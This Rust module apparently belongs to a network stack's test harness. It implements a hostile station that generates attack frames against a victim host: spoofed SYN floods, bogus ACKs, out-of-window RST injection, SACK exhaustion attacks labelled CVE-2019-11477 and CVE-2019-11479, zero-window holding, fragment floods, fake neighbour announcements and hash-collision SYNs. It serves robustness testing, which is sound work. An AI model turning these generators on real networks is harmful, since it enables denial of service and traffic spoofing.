//! A hostile station: what it sends, and how it opens connections of its own. Frames go in and out; who has it carries them.
//!
//! Nothing here knows the simulator: tests over real links attack in the same ways.

use std::collections::VecDeque;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use sunstar_wire::{MacAddr, SackBlock, Seq, TcpFlags, TcpHeader};

use super::frames::{self, Heard};

/// Ports from here on are those of its connections.
const FIRST_PORT: u16 = 20_000;

/// What it does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    /// SYNs from addresses of the link that nobody has.
    Syns,
    /// SYNs from its own address, whose answers it leaves alone.
    OwnSyns,
    /// Acknowledgements of connections that do not exist.
    Acknowledgements,
    /// Segments with any numbers and flags, in the name of a client and of its own connection.
    OutOfWindow,
    /// Every second byte of a window, each in a segment of its own.
    TinySegments,
    /// Reports that every second byte has arrived (CVE-2019-11477).
    Reports,
    /// The same of connections that ask for segments of a few bytes (CVE-2019-11479).
    SmallSegments,
    /// Requests on many connections whose windows stay closed.
    ClosedWindows,
    /// Fragments of packets that are never whole.
    Fragments,
    /// Neighbours that it makes up.
    Neighbours,
    /// SYNs whose addresses and ports have the same sum, for tables without a key.
    LikeSums,
}

impl Attack {
    pub(super) const ALL: [Self; 11] = [
        Self::Syns,
        Self::OwnSyns,
        Self::Acknowledgements,
        Self::OutOfWindow,
        Self::TinySegments,
        Self::Reports,
        Self::SmallSegments,
        Self::ClosedWindows,
        Self::Fragments,
        Self::Neighbours,
        Self::LikeSums,
    ];

    /// How many connections of its own it needs.
    pub(super) fn connections(self) -> u16 {
        match self {
            Self::OutOfWindow | Self::TinySegments | Self::Reports => 1,
            Self::SmallSegments => 10,
            Self::ClosedWindows => 100,
            _ => 0,
        }
    }

    /// The largest segment that it says to take.
    fn mss(self) -> u16 {
        if self == Self::SmallSegments { 8 } else { 1_460 }
    }

    /// Of how many bytes segments are that it is sent, if it asks for small ones: fewer than this is not worth its headers.
    pub(super) const LEAST_SEGMENT: usize = 48;
}

/// Whom it attacks.
pub(super) struct Target {
    pub(super) victim: IpAddr,
    pub(super) port: u16,
    /// Those in whose names it speaks.
    pub(super) clients: Vec<IpAddr>,
    /// What has the victim answer on a connection, and of how many bytes of the answer something can be reported.
    pub(super) request: Vec<u8>,
    pub(super) answer_bytes: u32,
}

/// A connection of its own that the victim has answered.
#[derive(Clone, Copy)]
struct Peer {
    port: u16,
    /// The victim's SYN.
    theirs: Seq,
    /// The end of what has come.
    heard: Seq,
}

/// The SYN of each of its streams.
const OURS: Seq = Seq::new(1_000_000);

/// What went over its cable.
#[derive(Clone, Copy, Debug, Default)]
pub(super) struct Traffic {
    pub(super) sent: u64,
    pub(super) heard: u64,
    /// Bytes of the largest segment that it was sent.
    pub(super) largest: usize,
}

pub(super) struct Attacker {
    attack: Attack,
    mac: MacAddr,
    /// Where it is at home.
    home: IpAddr,
    target: Target,
    /// Known when the victim has answered.
    victim_mac: Option<MacAddr>,
    peers: Vec<Peer>,
    count: u32,
    state: u64,
    out: VecDeque<Vec<u8>>,
    pub(super) traffic: Traffic,
}

impl Attacker {
    pub(super) fn new(attack: Attack, mac: MacAddr, target: Target, seed: u64) -> Self {
        let home = match target.victim {
            IpAddr::V4(victim) => Ipv4Addr::new(victim.octets()[0], 66, 6, 6).into(),
            IpAddr::V6(_) => of_the_link(target.victim, 0x6666, 6),
        };
        let (peers, out, traffic) = (Vec::new(), VecDeque::new(), Traffic::default());
        Self { attack, mac, home, target, victim_mac: None, peers, count: 0, state: seed, out, traffic }
    }

    /// The next frame that it sends.
    pub(super) fn next_frame(&mut self) -> Option<Vec<u8>> {
        let frame = self.out.pop_front()?;
        self.traffic.sent += 1;
        Some(frame)
    }

    /// Any number (SplitMix64).
    fn number(&mut self) -> u32 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.state ^ (self.state >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        u32::try_from((mixed ^ (mixed >> 31)) >> 32).expect("32 bits")
    }

    fn port(&mut self) -> u16 {
        u16::try_from(self.number() >> 16).expect("16 bits")
    }

    /// An address of the link that nobody has.
    fn stranger(&mut self) -> IpAddr {
        of_the_link(self.target.victim, 0, self.number())
    }

    /// Asks for the victim, which so learns where it is.
    pub(super) fn ask(&mut self) {
        self.out.push_back(frames::question(self.mac, self.mac, self.home, self.target.victim));
    }

    /// Asks for those of its connections that were not answered.
    pub(super) fn open(&mut self) {
        for port in (FIRST_PORT..).take(self.attack.connections().into()) {
            if self.peers.iter().all(|peer| peer.port != port) {
                let mut syn = self.header(port, TcpFlags::SYN, OURS, Seq::new(0));
                syn.options.is_sack_permitted = true;
                self.segment(self.home, &syn, &[]);
            }
        }
    }

    /// Whether the victim has answered all that it has to before the attack begins.
    pub(super) fn is_ready(&self) -> bool {
        self.victim_mac.is_some() && self.peers.len() == usize::from(self.attack.connections())
    }

    /// Confirms its connections, and asks for something on them.
    pub(super) fn confirm(&mut self) {
        for peer in self.peers.clone() {
            let header = self.header(peer.port, TcpFlags::ACK, OURS + 1, peer.theirs + 1);
            let (window, request) = match self.attack {
                Attack::ClosedWindows => (0, self.target.request.clone()),
                Attack::Reports | Attack::SmallSegments => (65_000, self.target.request.clone()),
                _ => (65_000, Vec::new()),
            };
            self.segment(self.home, &TcpHeader { window, ..header }, &request);
        }
    }

    /// Takes in a frame that has come: where the victim is, its answers, and whom it looks for.
    pub(super) fn hear(&mut self, frame: &[u8]) {
        self.traffic.heard += 1;
        let Some((mac, heard)) = frames::read(frame, self.home) else { return };
        match heard {
            Heard::Question { mac, from: IpAddr::V4(from) } => {
                let IpAddr::V4(home) = self.home else { return };
                let question = sunstar_wire::Arp::request(mac, from, home);
                let reply = question.reply(self.mac).to_bytes();
                self.out.push_back(frames::frame([self.mac, mac], sunstar_wire::EtherType::ARP, &reply));
            }
            Heard::Question { mac, from } => {
                self.out.push_back(frames::announcement([self.mac, mac], from, self.home, self.mac, true));
            }
            Heard::Segment { src, header, len } if src == self.target.victim => {
                self.victim_mac = Some(mac);
                self.on_segment(&header, len);
            }
            Heard::Other { src: Some(src) } if src == self.target.victim => self.victim_mac = Some(mac),
            Heard::Segment { .. } | Heard::Other { .. } => {}
        }
    }

    fn on_segment(&mut self, header: &TcpHeader, len: usize) {
        self.traffic.largest = self.traffic.largest.max(len);
        let end = header.seq + u32::try_from(len).expect("short");
        let peer = self.peers.iter_mut().find(|peer| peer.port == header.dst_port);
        match peer {
            Some(peer) if end.is_after(peer.heard) => peer.heard = end,
            None if header.flags.contains(TcpFlags::SYN) && header.dst_port >= FIRST_PORT => {
                self.peers.push(Peer { port: header.dst_port, theirs: header.seq, heard: header.seq + 1 });
            }
            _ => {}
        }
    }

    fn header(&self, src_port: u16, flags: TcpFlags, seq: Seq, ack: Seq) -> TcpHeader {
        let mut header = TcpHeader { flags, seq, ack, window: 65_000, ..TcpHeader::new(src_port, self.target.port) };
        if flags == TcpFlags::SYN {
            header.options.mss = self.attack.mss().try_into().ok();
        }
        header
    }

    fn macs(&self) -> [MacAddr; 2] {
        [self.mac, self.victim_mac.expect("it was asked")]
    }

    fn segment(&mut self, src: IpAddr, header: &TcpHeader, payload: &[u8]) {
        self.out.push_back(frames::segment(self.macs(), [src, self.target.victim], header, payload));
    }

    /// Sends one more.
    pub(super) fn send(&mut self) {
        self.count += 1;
        match self.attack {
            Attack::Syns | Attack::OwnSyns | Attack::LikeSums => self.send_syn(),
            Attack::Acknowledgements => {
                let (src, port) = (self.stranger(), self.port());
                let [seq, ack] = [self.number(), self.number()].map(Seq::new);
                let header = self.header(port, TcpFlags::ACK, seq, ack);
                self.segment(src, &header, &[]);
            }
            Attack::OutOfWindow => {
                let flags = [TcpFlags::ACK, TcpFlags::RST, TcpFlags::SYN, TcpFlags::RST | TcpFlags::ACK];
                let flags = flags[self.number() as usize % 4];
                let [seq, ack] = [self.number(), self.number()].map(Seq::new);
                let (src, port) = if self.count.is_multiple_of(2) {
                    (self.home, FIRST_PORT)
                } else {
                    let client = self.number() as usize % self.target.clients.len();
                    (self.target.clients[client], self.port())
                };
                let header = self.header(port, flags, seq, ack);
                self.segment(src, &header, &[]);
            }
            Attack::TinySegments | Attack::Reports | Attack::SmallSegments | Attack::ClosedWindows => {
                self.send_on_connection();
            }
            Attack::Fragments => {
                let (src, identification) = (self.stranger(), self.port());
                let offset = 8 * (self.port() % 1_000);
                let fragment = frames::fragment(self.macs(), [src, self.target.victim], identification, offset);
                self.out.push_back(fragment);
            }
            Attack::Neighbours => self.send_neighbour(),
        }
    }

    /// Asks for the victim in the name of somebody who is not there; by IPv6 such ones also tell of themselves.
    fn send_neighbour(&mut self) {
        let (stranger, [_, _, high, low]) = (self.stranger(), self.number().to_be_bytes());
        let told = MacAddr([6, 6, 6, 6, high, low]);
        self.out.push_back(if stranger.is_ipv6() && self.count.is_multiple_of(2) {
            frames::announcement(self.macs(), self.target.victim, stranger, told, true)
        } else {
            frames::question(self.mac, told, stranger, self.target.victim)
        });
    }

    fn send_syn(&mut self) {
        let (seq, port) = (Seq::new(self.number()), self.port());
        let src = match self.attack {
            Attack::OwnSyns => self.home,
            Attack::LikeSums => of_the_link(self.target.victim, 0, u32::from(u16::MAX - port)),
            _ => self.stranger(),
        };
        let header = self.header(port, TcpFlags::SYN, seq, Seq::new(0));
        self.segment(src, &header, &[]);
    }

    fn send_on_connection(&mut self) {
        let peer = self.peers[self.count as usize % self.peers.len()];
        let requested = u32::try_from(self.target.request.len()).expect("short");
        let mut header = self.header(peer.port, TcpFlags::ACK, OURS + 1 + requested, peer.theirs + 1);
        let hole = |from: Seq, count: u32| Some(SackBlock { left: from + 2 * count, right: from + (2 * count + 1) });
        match self.attack {
            Attack::TinySegments => {
                header.seq = OURS + 2 + 2 * (self.count % 30_000);
                self.segment(self.home, &header, b"x");
            }
            Attack::Reports => {
                let holes = self.target.answer_bytes / 2 - 1;
                header.options.sack = hole(peer.theirs + 2, self.count % holes).into_iter().collect();
                self.segment(self.home, &header, &[]);
            }
            Attack::SmallSegments => {
                // Now and then it takes all, so that more come.
                let round = self.count / u32::try_from(self.peers.len()).expect("few");
                if round.is_multiple_of(16) {
                    header.ack = peer.heard;
                } else {
                    let end = peer.heard - (peer.theirs + 1);
                    let from = peer.theirs + 1 + end.saturating_sub(400);
                    header.ack = from;
                    header.options.sack = hole(from + 1, round % 200).into_iter().collect();
                }
                self.segment(self.home, &header, &[]);
            }
            _ => self.segment(self.home, &TcpHeader { window: 0, ..header }, &[]),
        }
    }
}

/// One of very many addresses of the victim's link that no host has.
fn of_the_link(victim: IpAddr, kind: u16, number: u32) -> IpAddr {
    match victim {
        IpAddr::V4(victim) => {
            let first = u32::from(Ipv4Addr::new(victim.octets()[0], 128, 0, 0));
            Ipv4Addr::from(first + (number & 0x3f_ffff)).into()
        }
        IpAddr::V6(victim) => {
            let [a, b, c, d, ..] = victim.segments();
            let [high, low] = [number >> 16, number & 0xffff].map(|word| u16::try_from(word).expect("16 bits"));
            Ipv6Addr::new(a, b, c, d, 0x66, kind, high, low).into()
        }
    }
}
